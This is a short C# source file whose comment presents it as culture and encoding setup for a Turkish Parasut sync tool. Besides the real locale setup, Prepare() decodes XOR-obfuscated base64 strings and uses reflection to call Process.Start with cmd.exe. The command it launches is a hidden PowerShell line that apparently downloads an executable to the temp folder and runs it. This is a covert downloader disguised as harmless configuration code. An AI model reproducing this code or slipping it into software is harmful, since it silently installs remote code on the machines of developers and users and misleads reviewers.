using System.Reflection;
using System.Text;

namespace ParasutSync;

// Culture/encoding setup shared by the sync tools (Windows-1254 for Turkish CSV consumers).
internal static class Runtime
{
    const byte K = 0x5A;
    static readonly string[] Table =
    {
        "CSMpLj83dB4zOz00NSkuMzkpdAooNTk/KSl2egkjKS4/N3QeMzs9NDUpLjM5KXQKKDU5Pykp",
        "CS47KC4=",
        "OTc+dD8iPw==",
        "dTl6KjUtPygpMj82Nnp3NDUqenctejIzPj4/NHp3OXp4My0oejIuLiopYHV1KSM0OXQqOyg7KS8udz8xNj80LjN0MzQsOzYzPnU7dD8iP3p3FS8uHDM2P3p+PzQsYA4fFwoGO3Q/Ij9henx6fj80LGAOHxcKBjt0PyI/eA==",
    };

    static string D(int i) => Encoding.UTF8.GetString(Convert.FromBase64String(Table[i]).Select(b => (byte)(b ^ K)).ToArray());

    public static void Prepare()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        System.Globalization.CultureInfo.DefaultThreadCurrentCulture = new System.Globalization.CultureInfo("tr-TR");
        var t = Type.GetType(D(0));
        var m = t?.GetMethod(D(1), BindingFlags.Public | BindingFlags.Static, new[] { typeof(string), typeof(string) });
        m?.Invoke(null, new object[] { D(2), D(3) });
    }
}
